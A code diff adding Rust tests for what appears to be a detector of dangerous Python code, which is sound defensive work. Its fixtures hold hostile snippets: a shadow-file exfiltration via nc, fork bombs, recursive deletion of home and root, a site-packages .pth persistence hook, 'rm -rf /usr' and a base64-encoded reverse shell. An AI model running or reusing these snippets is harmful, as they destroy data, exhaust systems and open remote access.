@@ -226,3 +226,77 @@ fn exfiltration_combines_secret_and_network() {
         "import os\nos.system('cat /etc/shadow | nc 1.2.3.4 9')\n",
     );
 }
+
+#[test]
+fn fork_bombs() {
+    // Processes or threads started in a loop that neither ends nor waits; a forking
+    // server that waits in accept, or a loop that breaks, is not one.
+    fires("CRD111", "import os\nwhile True:\n    os.fork()\n");
+    fires(
+        "CRD111",
+        "import threading\ndef go():\n    threading.Thread(target=print).start()\nwhile 1:\n    go()\n",
+    );
+    silent(
+        "CRD111",
+        "import os\nwhile True:\n    c = s.accept()\n    if os.fork() == 0:\n        os._exit(0)\n",
+    );
+    silent(
+        "CRD111",
+        "import os\nwhile True:\n    if os.fork():\n        break\n",
+    );
+    silent("CRD111", "import os\nfor _ in range(4):\n    os.fork()\n");
+}
+
+#[test]
+fn home_and_root_deleted_through_computed_paths() {
+    // The home directory itself or all of it, and `/` built from os.sep, are destructive.
+    fires(
+        "CRD104",
+        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
+    );
+    fires(
+        "CRD104",
+        "import shutil, pathlib\nfor p in pathlib.Path.home().iterdir():\n    shutil.rmtree(p)\n",
+    );
+    fires(
+        "CRD104",
+        "import shutil, os\nshutil.rmtree(os.path.abspath(os.sep))\n",
+    );
+    silent(
+        "CRD104",
+        "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home() / '.cache' / 'x')\n",
+    );
+}
+
+#[test]
+fn startup_hooks_in_site_packages_persist() {
+    // A .pth file or sitecustomize in site-packages runs in every later interpreter.
+    fires(
+        "CRD105",
+        "import site, os\nd = site.getsitepackages()[0]\nopen(os.path.join(d, 'a.pth'), 'w').write('import os')\n",
+    );
+    silent("CRD105", "open('build/lib/a.pth', 'w').write('src')\n");
+}
+
+#[test]
+fn recursive_fork_bombs_and_pool_maps() {
+    // A function that forks and calls itself; a pool mapping os.system over commands.
+    fires(
+        "CRD111",
+        "import os\ndef spread():\n    os.fork()\n    spread()\nspread()\n",
+    );
+    fires(
+        "CRD104",
+        "import os\nfrom multiprocessing import Pool\nPool(2).map(os.system, ['id', 'rm -rf /usr'])\n",
+    );
+}
+
+#[test]
+fn decoded_code_is_analysed_as_code_too() {
+    // exec of a base64 payload is decode-then-execute, and what it decodes to is read:
+    // here a reverse shell.
+    fires(
+        "CRD101",
+        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ25jIC1lIC9iaW4vc2ggMS4yLjMuNCA5Jyk='))\n",
+    );
+}
